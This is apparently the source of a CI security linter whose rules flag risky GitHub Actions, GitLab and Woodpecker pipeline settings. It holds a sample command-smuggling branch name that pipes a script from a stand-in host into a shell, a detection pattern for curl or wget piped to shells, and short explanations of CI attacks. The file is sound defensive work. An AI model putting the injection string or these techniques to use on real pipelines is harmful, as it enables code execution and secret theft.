"""Supply-chain and permission rules for GitHub Actions: what zizmor and actionlint check
offline, said once per place."""

from __future__ import annotations

import os
import re

from infra_expert.lazyre import lazy_re
from infra_expert.model import Hit, Pass, RuleSet
from infra_expert.pipeline.model import loaded, step_commands, text
from infra_expert.secrets import is_secret_name
from infra_expert.yamlsafe import YMap

rules = RuleSet("pipeline")

# Events an outsider (anyone who can open an issue, a comment or a fork's pull request)
# triggers while the run holds the repository's secrets and a write token.
OUTSIDER_EVENTS = ("pull_request_target", "issue_comment", "issues", "discussion",
                   "discussion_comment", "workflow_run", "pull_request_review",
                   "pull_request_review_comment")
FIRST_PARTY = frozenset({"actions", "github"})
# where those owners are the forge's own: GitHub, and Forgejo's mirror of them
FIRST_PARTY_HOSTS = frozenset({"", "github.com", "code.forgejo.org", "data.forgejo.org"})
_EXPR = lazy_re(r"\$\{\{(.*?)\}\}", re.DOTALL)
# Contexts whose text an outsider writes: titles, bodies, messages, branch names, emails.
_TAINTED = lazy_re(
    r"\bgithub\.head_ref\b|"
    r"\bgithub\.event\.(?:[\w.*\[\]'\"-]*\.)?(?:title|body|message|head_ref|head_branch|"
    r"display_title|page_name|default_branch|label)\b|"
    r"\bgithub\.event\.(?:[\w.*\[\]'\"-]*\.)?(?:author|committer|pusher|head_commit)\."
    r"(?:name|email|message)\b|"
    r"\bgithub\.event\.(?:pull_request|workflow_run\.pull_requests[\w.*\[\]]*)\.head\.ref\b|"
    r"\bgithub\.event\.workflow_run\.head_repository\.(?:description|name)\b")
EXAMPLE = (
    "name: ci\n"
    "on:\n"
    "  push:\n"
    "    branches: [main]\n"
    "  pull_request:\n"
    "permissions:\n"
    "  contents: read\n"
    "jobs:\n"
    "  test:\n"
    "    runs-on: ubuntu-24.04\n"
    "    steps:\n"
    "      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683  # v4.2.2\n"
    "        with:\n"
    "          persist-credentials: false\n"
    "      - run: make test\n")


def _expressions(value):
    """(expression text with its `${{ }}`, inner text, index) of every expression."""
    for m in _EXPR.finditer(value):
        yield m.group(0), m.group(1), m.start()


def _occurrence(value, needle, index):
    return value.count(needle, 0, index)


def _script_of(step):
    """(key, script text) of code a step runs: `run:`, or github-script's `script`."""
    if step.run is not None:
        return "run", step.run
    uses = step.uses
    if uses is not None and uses.name == "actions/github-script":
        script = step.with_.get("script")
        if isinstance(script, str):
            return "script", script
    return None, None


def _script_line(flow, step, key, value, needle, index):
    node = step.node if key == "run" else step.with_
    start = node.value_pos.get(key, node.pos_of(key))[0]
    return flow.locate(start, needle, _occurrence(value, needle, index))


# A pipeline file in a folder of test data is a fixture (GitLab runs only the root's
# `.gitlab-ci.yml`): a broken one there is usually broken on purpose.
_TEST_DATA = lazy_re(r"(?:^|/)(?:tests?|testdata|test[_-]data|__tests__|fixtures?)/")


@rules.rule(
    "CI001", "critical", "reliability", "The CI cannot load this pipeline",
    "GitHub refuses a workflow file whose YAML does not parse, that has no `on:` or no "
    "`jobs:`, or whose jobs or steps are not mappings; GitLab refuses the whole pipeline "
    "for a job with no `script`, an `extends:` naming no template, a local `include:` that "
    "does not exist; Woodpecker a step without `image:`. It never runs, and the failure "
    "shows only in the CI's own pages, not on the change that broke it.",
    "Fix what the message names; `actionlint`, GitLab's CI Lint (`glab ci lint`) or "
    "`woodpecker-cli lint` show the same errors before pushing.",
    peers=("actionlint:syntax-check",), example=EXAMPLE)
def workflow_refused(doc, ctx):
    flow = doc.model
    if flow.kind in ("gitlab", "woodpecker") and flow.problems and _TEST_DATA.search(
            os.path.relpath(doc.abspath, doc.root).replace(os.sep, "/")
            if doc.abspath and doc.root else doc.path.replace("\\", "/")):
        return
    for problem in flow.problems:
        line, message = problem[0], problem[1]
        yield Hit(line, message, path=problem[2] if len(problem) > 2 else None)


@rules.rule(
    "CI002", "warning", "security", "Action not pinned to a commit SHA",
    "A tag or branch (`@v4`, `@main`) is a pointer its owner — or whoever steals their "
    "token — can move: the next run executes the new code with this job's secrets and "
    "token (tj-actions/changed-files, March 2025, rewrote every tag to dump secrets). A "
    "full 40-character commit SHA cannot be moved. GitHub's own `actions/*` are a smaller "
    "risk (said as a suggestion); local actions (`./`) and images pinned by digest are "
    "pinned already.",
    "Pin to the full commit SHA and keep the tag in a comment "
    "(`uses: owner/action@<40-hex sha>  # v1.2.3`); Dependabot or Renovate update both.",
    positive="Every action is pinned to a commit SHA",
    peers=("zizmor:unpinned-uses", "zizmor:ref-confusion"), example=EXAMPLE)
def unpinned_uses(doc, ctx):
    flow = loaded(doc)
    if flow is None:
        return
    seen = False
    for owner, uses, line in _all_uses(flow):
        seen = True
        if uses.pinned:
            continue
        if uses.kind == "docker":
            yield Hit(line, f"`{uses.raw}`: an image tag, not a digest (`@sha256:…`)")
        elif not uses.ref:
            yield Hit(line, f"`{uses.raw}` has no ref at all: it runs the default branch")
        elif uses.owner in FIRST_PARTY and uses.host in FIRST_PARTY_HOSTS:
            forge = "Forgejo's" if "forgejo" in uses.host or \
                doc.path.startswith(".forgejo/") or "/.forgejo/" in doc.path else \
                "Gitea's" if doc.path.startswith(".gitea/") or "/.gitea/" in doc.path \
                else "GitHub's"
            yield Hit(line, f"`{uses.raw}` ({forge} own action, by tag)",
                      severity="suggestion")
        else:
            yield Hit(line, f"`{uses.raw}`: third-party "
                            f"{'reusable workflow' if uses.kind == 'workflow' else 'action'} "
                            f"by {'branch' if uses.major() is None else 'tag'} "
                            f"`{uses.ref}`")
    if seen:
        yield Pass(flow.line_of("jobs") if "jobs" in flow.root else 1)


def _all_uses(flow):
    for job in flow.jobs:
        uses = job.uses
        if uses is not None:
            yield job, uses, job.node.value_pos.get("uses", job.node.line)[0]
        for step in job.steps:
            uses = step.uses
            if uses is not None:
                yield step, uses, step.value_line("uses")


@rules.rule(
    "CI003", "warning", "security", "Workflow token with default or write-all permissions",
    "Without `permissions:`, the `GITHUB_TOKEN` gets the repository's default — read and "
    "write on contents, packages, pull requests, issues… in many organisations — so any "
    "step that is compromised (a moved tag, an injected title) can push code or publish a "
    "package. `write-all` says the same explicitly.",
    "Set `permissions: {}` (or `contents: read`) at the top of the workflow and grant each "
    "job only what it needs (`contents: write` on the release job). A write scope at the "
    "top of a workflow of several jobs is given to all of them (a warning); `read-all` "
    "reads every scope (a suggestion).",
    positive="The workflow token is scoped with `permissions:`",
    peers=("zizmor:excessive-permissions", "checkov:CKV2_GHA_1",
           "scorecard:Token-Permissions"), example=EXAMPLE)
def default_permissions(doc, ctx):
    flow = loaded(doc)
    if flow is None or flow.kind != "workflow" or not flow.jobs:
        return
    top = flow.permissions
    if text(top) == "write-all":
        yield Hit(flow.line_of("permissions"), "`permissions: write-all` for every job")
        return
    for job in flow.jobs:
        scope = text(job.node.get("permissions"))
        if scope == "write-all":
            yield Hit(job.key_line("permissions"), f"job `{job.id}`: `permissions: write-all`")
        elif scope == "read-all":
            yield Hit(job.key_line("permissions"), f"job `{job.id}`: `permissions: read-all` "
                      "reads every scope; name the ones it needs", severity="suggestion")
    if len(flow.jobs) < 2:
        pass        # one job: the workflow's grant is that job's own (zizmor agrees)
    elif text(top) == "read-all":
        yield Hit(flow.line_of("permissions"), "`permissions: read-all` reads every scope "
                  "for every job; name the ones they need", severity="suggestion")
    elif isinstance(top, YMap):
        # a write scope at the top reaches every job, not only the one that needs it
        for scope, value in top.items():
            if text(value) == "write":
                yield Hit(top.pos_of(scope)[0], f"`{scope}: write` at the workflow level "
                          f"is given to all {len(flow.jobs)} jobs: grant it on the job that "
                          "needs it")
    if "permissions" in flow.root:
        yield Pass(flow.line_of("permissions"))
        return
    if set(flow.triggers) == {"workflow_call"}:
        return      # a reusable workflow runs with what its caller grants
    if "/.forgejo/" in "/" + doc.path.replace("\\", "/") or \
            "/.gitea/" in "/" + doc.path.replace("\\", "/"):
        return      # Forgejo and Gitea do not scope their token by `permissions:`
    bare = [j for j in flow.jobs if "permissions" not in j.node and j.uses is None]
    if not bare:
        yield Pass(flow.line_of("jobs"))
        return
    names = ", ".join(f"`{j.id}`" for j in bare[:4]) + (" …" if len(bare) > 4 else "")
    yield Hit(flow.line_of("jobs"), f"no `permissions:` for the workflow nor for job"
                                    f"{'s' if len(bare) > 1 else ''} {names}: the token "
                                    "gets the repository's default scopes")


@rules.rule(
    "CI004", "warning", "security", "Attacker-controlled text expanded into a script",
    "`${{ … }}` is pasted into the script before the shell reads it: an issue title, a "
    "comment, a commit message or a branch name such as `a\";curl evil.sh|sh;#` becomes "
    "code. On `pull_request_target`, `issue_comment`, `issues`, `workflow_run`… an "
    "outsider triggers it while the job holds the repository's secrets and a write token "
    "(critical); elsewhere the author of the text attacks their own run, or a maintainer's.",
    "Pass the value through `env:` (`TITLE: ${{ github.event.issue.title }}`) and use "
    "`\"$TITLE\"` in the script, quoted; never `${{ }}` inside `run:`.",
    peers=("zizmor:template-injection", "actionlint:expression",
           "codeql:actions/code-injection/critical", "semgrep:run-shell-injection"),
    example=EXAMPLE)
def template_injection(doc, ctx):
    flow = loaded(doc)
    if flow is None:
        return
    outsider = [e for e in OUTSIDER_EVENTS if e in flow.triggers]
    for step in flow.steps():
        key, script = _script_of(step)
        if script is None or "${{" not in script:
            continue
        for whole, inner, index in _expressions(script):
            m = _TAINTED.search(inner)
            if not m:
                continue
            line = _script_line(flow, step, key, script, whole, index)
            if outsider:
                yield Hit(line, f"`{m.group(0)}` in the script of {step.label()}, on "
                                f"`{outsider[0]}`: anyone who can write it runs code with "
                                "this workflow's secrets", severity="critical")
            else:
                yield Hit(line, f"`{m.group(0)}` in the script of {step.label()}")


_HEAD_REF = lazy_re(r"github\.event\.pull_request\.head\.(?:sha|ref)|github\.head_ref|"
                    r"github\.event\.workflow_run\.head_(?:sha|branch)|"
                    r"refs/pull/|github\.event\.pull_request\.merge_commit_sha|"
                    r"github\.event\.number|github\.event\.pull_request\.number")


@rules.rule(
    "CI005", "critical", "security", "Pull request code checked out and run with the "
    "repository's secrets",
    "`pull_request_target` and `workflow_run` run in the base repository, with its "
    "secrets and a write token, even for a fork's pull request. Checking out the pull "
    "request's head and then building or testing it runs the fork author's code (a "
    "`Makefile`, `package.json` scripts, a test) with those secrets: the \"pwn request\".",
    "Use `on: pull_request` for anything that runs the pull request's code; keep "
    "`pull_request_target` for labelling and commenting, without checkout of the head. "
    "When results must be written back, split: an unprivileged `pull_request` run uploads "
    "an artifact, a `workflow_run` job reads it as data. The trigger alone, with no such "
    "checkout, is a suggestion (zizmor names it too): the next edit that adds one is the "
    "pwn request.",
    peers=("zizmor:dangerous-triggers", "codeql:actions/untrusted-checkout/critical"),
    example=EXAMPLE)
def pwn_request(doc, ctx):
    flow = loaded(doc)
    if flow is None or not flow.triggered_by("pull_request_target", "workflow_run"):
        return
    event = "pull_request_target" if "pull_request_target" in flow.triggers else "workflow_run"
    found = False
    for job in flow.jobs:
        for i, step in enumerate(job.steps):
            uses = step.uses
            if uses is None or uses.name != "actions/checkout":
                continue
            ref = text(step.with_.get("ref")) + " " + text(step.with_.get("repository"))
            if not _HEAD_REF.search(ref):
                continue
            runs = [s for s in job.steps[i + 1:] if s.run is not None or (
                s.uses is not None and s.uses.kind in ("action", "local", "docker")
                and s.uses.name not in ("actions/upload-artifact", "actions/checkout"))]
            if runs:
                found = True
                yield Hit(step.value_line("uses"), f"job `{job.id}` on `{event}` checks out "
                          f"the pull request's head, then {runs[0].label()} "
                          f"(line {runs[0].line}) runs it")
    if not found:
        # zizmor's dangerous-triggers names the trigger itself: the run holds the secrets
        # and a write token for a fork's pull request, whatever its steps do today
        on = flow.root.get("on")
        line = on.key_pos[event][0] if isinstance(on, YMap) and event in on.key_pos \
            else flow.triggers_line
        yield Hit(line, f"`{event}` runs with the repository's secrets and a write token "
                        "for a fork's pull request: keep the pull request's code out of it",
                  severity="suggestion")


_WORKSPACE = lazy_re(r"^(?:\.|\./|\*|\$\{\{\s*github\.workspace\s*\}\}/?|\.git(?:/.*)?)$")


@rules.rule(
    "CI006", "warning", "security", "Checkout token uploaded in an artifact",
    "`actions/checkout` writes the job's token into `.git/config` unless "
    "`persist-credentials: false`; uploading the workspace with its hidden files "
    "(`include-hidden-files: true`, or `upload-artifact` before v4.4) publishes that token "
    "to anyone who can download the artifact, while the run lasts (ArtiPACKED).",
    "Add `persist-credentials: false` to the checkout, and upload only the build output "
    "(`path: dist/`), never the workspace. A checkout that keeps its credentials with no "
    "such upload is a suggestion (zizmor names it too): every later step can read the "
    "token from the disk; keep it only for a step that pushes.",
    peers=("zizmor:artipacked",), example=EXAMPLE)
def artipacked(doc, ctx):
    flow = loaded(doc)
    if flow is None:
        return
    for job in flow.jobs:
        checkouts = [s for s in job.steps if s.uses is not None
                     and s.uses.name == "actions/checkout"
                     and text(s.with_.get("persist-credentials")).lower() != "false"]
        if not checkouts:
            continue
        uploaded = False
        for step in job.steps:
            uses = step.uses
            if uses is None or uses.name != "actions/upload-artifact":
                continue
            paths = [p.strip() for p in text(step.with_.get("path")).split("\n") if p.strip()]
            hidden = text(step.with_.get("include-hidden-files")).lower() == "true" or (
                uses.major() is not None and uses.major() < 4)
            if any(_WORKSPACE.match(p) for p in paths) and (hidden or any(
                    p.startswith(".git") for p in paths)):
                yield Hit(checkouts[0].value_line("uses"),
                          f"job `{job.id}`: the checkout keeps its token in `.git/config` "
                          f"and {step.label()} (line {step.line}) uploads the workspace")
                uploaded = True
                break
        # zizmor's artipacked also names every checkout that persists its credentials:
        # any later step (a tool, a script, an action) can read the token from the disk
        for step in checkouts[1:] if uploaded else checkouts:
            yield Hit(step.value_line("uses"),
                      f"{step.label()} of job `{job.id}` keeps the job's token in "
                      "`.git/config` for every later step (no `persist-credentials: false`)",
                      severity="suggestion")


_CACHE_ACTIONS = frozenset({"actions/cache", "swatinem/rust-cache",
                            "mozilla-actions/sccache-action"})
_SETUP_CACHE = frozenset({"actions/setup-node", "actions/setup-python", "actions/setup-java",
                          "actions/setup-dotnet", "actions/setup-go", "astral-sh/setup-uv",
                          "ruby/setup-ruby", "pnpm/action-setup", "oven-sh/setup-bun"})
_CACHE_ON_BY_DEFAULT = frozenset({"actions/setup-go"})


def _restores_cache(step):
    uses = step.uses
    if uses is None:
        return None
    name = uses.name
    w = step.with_
    if name in _CACHE_ACTIONS and "/save" not in uses.path + "/" and uses.path != "save":
        if text(w.get("lookup-only")).lower() == "true":
            return None
        return f"`{name}`"
    if name in _SETUP_CACHE:
        for key in ("cache", "enable-cache", "bundler-cache"):
            value = text(w.get(key)).lower()
            if value and value != "false":
                return f"`{name}` with `{key}: {text(w.get(key))}`"
        if name in _CACHE_ON_BY_DEFAULT and text(w.get("cache")).lower() != "false" \
                and (uses.major() is None or uses.major() >= 4):
            return f"`{name}` (caches by default)"
    return None


def release_trigger(flow):
    """How a workflow is a release run (`release`, a push of tags — with branches too,
    as zizmor counts it), or None."""
    if "release" in flow.triggers:
        return "`release`"
    push = flow.triggers.get("push")
    if isinstance(push, YMap) and "tags" in push:
        return "a tag push"
    return None


# Actions that publish what the job built (zizmor's cache-poisoning counts a job that
# uses one as a release job, whatever triggers the workflow)
PUBLISHERS = frozenset({"pypa/gh-action-pypi-publish", "goreleaser/goreleaser-action",
                        "softprops/action-gh-release", "docker/build-push-action",
                        "rubygems/release-gem", "jreleaser/release-action",
                        "release-drafter/release-drafter"})


def publisher_of(job):
    """The `uses:` of the first step of `job` that publishes, or None. A
    `docker/build-push-action` step publishes unless it says `push: false`."""
    return next((s.uses.name for s in job.steps if s.uses is not None
                 and s.uses.name in PUBLISHERS and not (
                     s.uses.name == "docker/build-push-action"
                     and text(s.with_.get("push")).lower() == "false")), None)


@rules.rule(
    "CI007", "warning", "security", "Cache restored in a release workflow",
    "Any workflow of the repository — including one a pull request triggers — can write "
    "to the Actions cache. A release job that restores it builds from whatever was put "
    "there: a poisoned dependency cache ends up in the published artifact, signed.",
    "Do not restore caches in release jobs — a workflow run on `release` or a tag push, "
    "or a job that publishes (PyPI, GoReleaser, a GitHub release, `docker/build-push-"
    "action`): drop `actions/cache` and the setup actions' `cache:` there (`cache: false` "
    "for `setup-go`; a registry cache, `type=registry`, for image layers), or guard them "
    "with `if: github.event_name != 'release'`.",
    peers=("zizmor:cache-poisoning",), example=EXAMPLE)
def cache_poisoning(doc, ctx):
    flow = loaded(doc)
    if flow is None or flow.kind != "workflow":
        return
    trigger = release_trigger(flow)
    publishers = {} if trigger else {id(j): publisher_of(j) for j in flow.jobs}
    for step in flow.steps():
        what = _restores_cache(step)
        if not what or text(step.node.get("if")):
            continue
        if trigger:
            yield Hit(step.value_line("uses"), f"{what} in job `{step.job.id}` of a workflow "
                                               f"run on {trigger}")
        elif publishers.get(id(step.job)):
            yield Hit(step.value_line("uses"), f"{what} in job `{step.job.id}`, which "
                      f"publishes with `{publishers[id(step.job)]}`")


@rules.rule(
    "CI008", "warning", "security", "Reusable workflow given every secret (`secrets: inherit`)",
    "`secrets: inherit` hands the called workflow every secret of the repository and "
    "organisation, whatever it uses: one compromised step there reads them all, and "
    "nobody can tell from the caller which secrets it needs.",
    "Pass the secrets it needs by name: `secrets: {NPM_TOKEN: ${{ secrets.NPM_TOKEN }}}`.",
    peers=("zizmor:secrets-inherit",), example=EXAMPLE)
def secrets_inherit(doc, ctx):
    flow = loaded(doc)
    if flow is None:
        return
    for job in flow.jobs:
        if job.uses is not None and text(job.node.get("secrets")) == "inherit":
            local = job.uses.kind == "local"
            yield Hit(job.key_line("secrets"), f"job `{job.id}` calls `{job.uses.raw}` with "
                      "every secret" + (" (a workflow of this repository)" if local else ""),
                      severity="suggestion" if local else None)


@rules.rule(
    "CI009", "warning", "security", "Self-hosted runner on pull requests",
    "A `pull_request` from a fork runs its own code on the runner. A GitHub-hosted runner "
    "is thrown away afterwards; a self-hosted one is not: the fork can leave a backdoor, "
    "read other jobs' files and credentials, and reach the network it sits in.",
    "Run pull request jobs on GitHub-hosted runners, or on ephemeral (just-in-time) "
    "self-hosted runners, and require approval for outside contributors' runs.",
    peers=("zizmor:self-hosted-runner",), example=EXAMPLE)
def self_hosted_on_pr(doc, ctx):
    flow = loaded(doc)
    if flow is None or not flow.triggered_by("pull_request", "pull_request_target"):
        return
    for job in flow.jobs:
        labels = [label.lower() for label in job.runs_on()]
        if "self-hosted" in labels:
            yield Hit(job.key_line("runs-on"), f"job `{job.id}` runs on a self-hosted runner "
                                               "and the workflow runs on pull requests")


_FETCHERS = ("curl", "wget")
_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ash", "ksh", "sudo", "python", "python3",
                     "perl", "ruby", "node"})


@rules.rule(
    "CI010", "warning", "security", "Remote script piped into a shell",
    "`curl … | sh` runs whatever the server returns, unverified, with the job's secrets "
    "and token: a compromised or hijacked URL owns the pipeline (Codecov's bash uploader, "
    "2021, sent CI secrets away for two months).",
    "Use a pinned action or a packaged tool; or download to a file, check its SHA-256 "
    "(`sha256sum -c`), then run it.",
    example=EXAMPLE)
def curl_pipe_shell(doc, ctx):
    flow = loaded(doc)
    if flow is None:
        return
    seen = set()      # a template's line that several jobs inherit: said once
    for step in flow.steps():
        if not any(f in script for _, script in step.scripts() for f in _FETCHERS):
            continue
        for sc in step_commands(flow, step):
            target = sc.cmd.pipe_out
            if sc.cmd.name in _FETCHERS and target is not None and target.name in _SHELLS:
                if (sc.path, sc.line) not in seen:
                    seen.add((sc.path, sc.line))
                    yield Hit(sc.line, f"`{sc.cmd.name} … | {target.name}` in {step.label()}",
                              path=sc.path)
                break


_SECRET_EXPR = lazy_re(r"\$\{\{\s*secrets\.([A-Za-z_][\w-]*)\s*\}\}")
_ECHO = lazy_re(r"(?:^|[;&|(]\s*|\s)(?:echo|printf)\b[^\n|>]*$")


@rules.rule(
    "CI011", "warning", "security", "Secret pasted into a script",
    "`${{ secrets.X }}` inside `run:` is written into the script file on the runner's "
    "disk and, as an argument, shows in the process list to every other process of the "
    "job (a compromised action or dependency). Echoed, it reaches the log: GitHub masks "
    "the exact value, not a base64 or URL-encoded copy of it. In GitLab and Woodpecker a "
    "secret is an environment variable, expanded by the shell: echoed, it is in the log "
    "(masked only if the variable is marked so); given to `docker login -p`, in the "
    "process list.",
    "Pass it through `env:` (`TOKEN: ${{ secrets.X }}`) and read `\"$TOKEN\"`; give it to "
    "tools on stdin or in a file (`--password-stdin`), never as an argument or to `echo` "
    "(GitLab, Woodpecker: `echo \"$TOKEN\" | docker login --password-stdin …`).",
    peers=("checkov:CKV_GHA_3",), example=EXAMPLE)
def secret_in_script(doc, ctx):
    flow = loaded(doc)
    if flow is None:
        return
    if flow.kind in ("gitlab", "woodpecker"):
        yield from _secret_variables(flow)
        return
    for step in flow.steps():
        script = step.run
        if script is None or "secrets." not in script:
            continue
        for m in _SECRET_EXPR.finditer(script):
            line_text = script[script.rfind("\n", 0, m.start()) + 1:m.start()]
            end = script.find("\n", m.end())
            rest = script[m.end():end if end >= 0 else len(script)]
            echoed = bool(_ECHO.search(line_text))
            line = _script_line(flow, step, "run", script, m.group(0), m.start())
            # `echo "${{ secrets.X }}" | docker login --password-stdin`: right tool, but the
            # value is still pasted into the script file
            onward = "piped on" if "|" in rest else "written to a file" if ">" in rest \
                else None
            how = (f"pasted into the script text ({onward}: pass it through `env:`)"
                   if echoed and onward else "echoed" if echoed else "on the command line")
            # the job's own short-lived token: the same advice, less at stake
            yield Hit(line, f"secret `{m.group(1)}` {how} in {step.label()}",
                      severity="suggestion" if m.group(1).upper() == "GITHUB_TOKEN" else None)


# GitLab and Woodpecker: a secret is a variable of the job's environment. By its name
# (secrets.is_secret_name: GitLab cannot tell which are masked), or declared
# `from_secret` (Woodpecker).
# The job's own token (and GitLab's registry password, the same token): valid while the
# job runs, masked in the log.
_JOB_TOKENS = frozenset({"CI_JOB_TOKEN", "CI_REGISTRY_PASSWORD",
                         "CI_DEPENDENCY_PROXY_PASSWORD"})
_VAR = lazy_re(r"\$\$?\{?([A-Za-z_][A-Za-z0-9_]*)\}?")
# `echo …` up to the end of its command: `|`, `>`, `;`, `&`, a newline
_ECHO_CMD = lazy_re(r"(?:^|[;&|(]\s*|\s)(?:echo|printf)\b((?:[^|>;&\n\\]|\\.)*)(.?)")
_LOGIN_PASSWORD = lazy_re(
    r"\b(?:docker|podman|buildah|skopeo|nerdctl|oras|crane|helm(?:\s+registry)?)\s+login\b"
    r"[^;&|\n]*?\s(?:-p|--password)(?:\s+|=)[\"']?\$\$?\{?([A-Za-z_][A-Za-z0-9_]*)")


def _secret_names(step):
    names = set(_JOB_TOKENS)
    for key, value in step.env.items():
        if isinstance(value, YMap) and "from_secret" in value:
            names.add(str(key))
    old = step.node.get("secrets")     # Woodpecker before 3.0: `secrets: [a, b]`
    if step.kind == "woodpecker" and isinstance(old, list):
        names.update(str(v).upper() for v in old if isinstance(v, str))
    return names


def _secret_variables(flow):
    """GitLab/Woodpecker: a secret variable echoed to the log, or given to a registry
    login as `-p`/`--password` (the process list) where `--password-stdin` exists."""
    seen = set()
    for step in flow.steps():
        declared = _secret_names(step)
        for pair in step.scripts():
            start, script = pair
            if "$" not in script:
                continue
            path = getattr(pair, "path", None)
            for offset, line_text in enumerate(script.split("\n")):
                if "$" not in line_text:
                    continue
                line = start + offset
                for m in _ECHO_CMD.finditer(line_text):
                    if m.group(2) in ("|", ">"):
                        continue        # piped into a tool or written to a file
                    for v in _VAR.finditer(m.group(1)):
                        name = v.group(1)
                        if name in declared or is_secret_name(name):
                            if (path, line, name) not in seen:
                                seen.add((path, line, name))
                                # Woodpecker masks its own secrets' exact values in the
                                # log (not an encoded copy): less at stake
                                masked = flow.kind == "woodpecker" and name in declared
                                yield Hit(line, f"secret variable `{name}` echoed to the "
                                                f"log in {step.label()}"
                                                + (" (masked, but any encoded copy is not)"
                                                   if masked else ""), path=path,
                                          severity="suggestion" if masked else None)
                m = _LOGIN_PASSWORD.search(line_text)
                if m and (path, line, m.group(1)) not in seen:
                    seen.add((path, line, m.group(1)))
                    name = m.group(1)
                    yield Hit(line, f"`{name}` passed to a registry login as `-p`/"
                                    f"`--password` in {step.label()}: use "
                                    "`--password-stdin`", path=path,
                              severity="suggestion" if name in _JOB_TOKENS else None)


@rules.rule(
    "CI012", "critical", "security", "Registry password written in the workflow",
    "A `container:` or `services:` password written in the workflow (a Woodpecker "
    "plugin's `settings: password:`, GitLab's `DOCKER_AUTH_CONFIG` variable) is readable "
    "by everyone who can read the repository, and stays in its history.",
    "Use a secret: `password: ${{ secrets.REGISTRY_PASSWORD }}` (Woodpecker: "
    "`password: {from_secret: registry_password}`; GitLab: a masked CI/CD variable set in "
    "the project's settings), and revoke the written one.",
    peers=("zizmor:hardcoded-container-credentials",), example=EXAMPLE)
def hardcoded_container_credentials(doc, ctx):
    from infra_expert.secrets import is_literal_secret_value
    flow = loaded(doc)
    if flow is None:
        return
    if flow.kind in ("gitlab", "woodpecker"):
        yield from _written_registry_credentials(flow, is_literal_secret_value)
        return
    for job in flow.jobs:
        images = []
        if isinstance(job.node.get("container"), YMap):
            images.append(("the job container", job.node["container"]))
        services = job.node.get("services")
        if isinstance(services, YMap):
            images.extend((f"service `{k}`", v) for k, v in services.items()
                          if isinstance(v, YMap))
        for label, node in images:
            creds = node.get("credentials")
            if not isinstance(creds, YMap):
                continue
            password = creds.get("password")
            if isinstance(password, str) and "${{" not in password and \
                    is_literal_secret_value(password, "password"):
                yield Hit(creds.pos_of("password")[0],
                          f"job `{job.id}`, {label}: the registry password is written here")


_AUTH_LITERAL = lazy_re(r"\"auth\"\s*:\s*\"([A-Za-z0-9+/=]{8,})\"")


def _written_registry_credentials(flow, is_literal_secret_value):
    seen = set()
    for step in flow.steps():
        password = step.with_.get("password")
        if isinstance(password, str) and "$" not in password and \
                is_literal_secret_value(password, "password"):
            yield Hit(step.with_.pos_of("password")[0], f"{step.label()}: the plugin's "
                      "registry `password` is written here", path=step.path)
        auth = step.env.get("DOCKER_AUTH_CONFIG")
        if isinstance(auth, str) and _AUTH_LITERAL.search(auth):
            path, line = step.env.where("DOCKER_AUTH_CONFIG")
            if (path, line) not in seen:
                seen.add((path, line))
                yield Hit(line, "`DOCKER_AUTH_CONFIG` holds a registry login (`auth`) "
                                "written here", path=path)


def _env_blocks(flow):
    if isinstance(flow.root.get("env"), YMap):
        yield flow.root["env"]
    for job in flow.jobs:
        if isinstance(job.node.get("env"), YMap):
            yield job.node["env"]
        for step in job.steps:
            if isinstance(step.node.get("env"), YMap):
                yield step.node["env"]


@rules.rule(
    "CI013", "warning", "security", "Insecure workflow commands re-enabled",
    "`ACTIONS_ALLOW_UNSECURE_COMMANDS` brings back `::set-env` and `::add-path`, disabled "
    "in 2020 because anything that prints to the log — a test's output, a file's content "
    "— can then set `LD_PRELOAD` or `PATH` for the next steps and run code.",
    "Remove the variable; write to `$GITHUB_ENV` and `$GITHUB_PATH` instead.",
    peers=("zizmor:insecure-commands",), example=EXAMPLE)
def insecure_commands(doc, ctx):
    flow = loaded(doc)
    if flow is None:
        return
    for env in _env_blocks(flow):
        value = env.get("ACTIONS_ALLOW_UNSECURE_COMMANDS")
        if value is not None and text(value).lower() in ("true", "1", "yes"):
            yield Hit(env.pos_of("ACTIONS_ALLOW_UNSECURE_COMMANDS")[0],
                      "`ACTIONS_ALLOW_UNSECURE_COMMANDS` is on")
